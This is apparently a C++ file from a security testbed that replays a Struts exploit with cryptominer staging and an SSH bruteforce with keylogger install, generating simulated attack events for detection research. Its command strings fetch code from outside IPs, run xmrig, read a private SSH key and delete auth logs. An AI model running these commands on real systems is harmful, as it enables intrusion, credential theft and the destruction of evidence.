#include "net/flow.hpp"
#include "replay/campaigns.hpp"
#include "sim/engine.hpp"
#include "testbed/vuln_service.hpp"

namespace at::replay {

util::SimTime StrutsCampaign::schedule(testbed::Testbed& bed, util::SimTime start) {
  exploited_ = false;
  testbed::VulnerableService* service =
      bed.add_vulnerable_service("struts", config_.snapshot_date, start);
  if (service == nullptr) return start;
  testbed::Testbed* bed_ptr = &bed;

  // Phase 1: repetitive scanning for vulnerable portals (Insight 3's
  // low-variability automated probing).
  util::SimTime t = start;
  for (std::size_t i = 0; i < config_.probe_count; ++i) {
    bed.engine().schedule_at(t, [service, this](sim::Engine& eng) {
      service->probe(config_.attacker, eng.now());
    });
    t += config_.probe_spacing;
  }

  // Phase 2: the exploit, then (if the build is vulnerable) payload
  // staging and a cryptominer — whose sustained run is the critical alert.
  const util::SimTime exploit_time = t + 10 * util::kMinute;
  bed.engine().schedule_at(exploit_time, [service, bed_ptr, this](sim::Engine& eng) {
    (void)bed_ptr;
    const auto result = service->exploit(config_.attacker, config_.cve, eng.now());
    if (!result.success) return;
    exploited_ = true;
    service->run_payload(config_.attacker, "wget http://185.100.87.41/xm.c; gcc xm.c",
                         eng.now() + 30);
    service->run_payload(config_.attacker, "./xmrig --donate-level=0 -o pool:3333",
                         eng.now() + 120);
  });
  return exploit_time + util::kHour;
}

util::SimTime SshKeyloggerCampaign::schedule(testbed::Testbed& bed, util::SimTime start) {
  if (bed.ssh().empty()) return start;
  auto& ssh = *bed.ssh().back();
  const net::Ipv4 target = ssh.address();
  testbed::Testbed* bed_ptr = &bed;

  // Phase 1: password bruteforce (rejected flows, then one success via a
  // weak credential — modeled as an authorized key guessed/phished).
  util::SimTime t = start;
  for (std::size_t i = 0; i < config_.bruteforce_attempts; ++i) {
    bed.engine().schedule_at(t, [bed_ptr, target, this](sim::Engine& eng) {
      net::Flow flow;
      flow.ts = eng.now();
      flow.src = config_.attacker;
      flow.dst = target;
      flow.src_port = 55555;
      flow.dst_port = net::ports::kSsh;
      flow.state = net::ConnState::kRejected;
      bed_ptr->inject_flow(flow);
    });
    t += config_.attempt_spacing;
  }

  // Phase 2: entry and keylogger install — masquerade as sshd, hook auth,
  // and capture credentials (the critical alert arrives last).
  const util::SimTime entry = t + 5 * util::kMinute;
  bed.engine().schedule_at(entry, [&ssh, this](sim::Engine& eng) {
    ssh.authorize_key("phished-key");
    if (!ssh.login_with_key(config_.attacker, "phished-key", eng.now())) return;
    ssh.exec("victim", "wget http://45.155.204.1/slog.c", eng.now() + 20);
    ssh.exec("victim", "gcc -o /usr/sbin/sshd-helper slog.c", eng.now() + 60);
    ssh.exec("victim", "cat /home/victim/.ssh/id_rsa", eng.now() + 120);
    ssh.exec("victim", "rm -f /var/log/auth.log", eng.now() + 180);
  });
  return entry + util::kHour;
}

}  // namespace at::replay
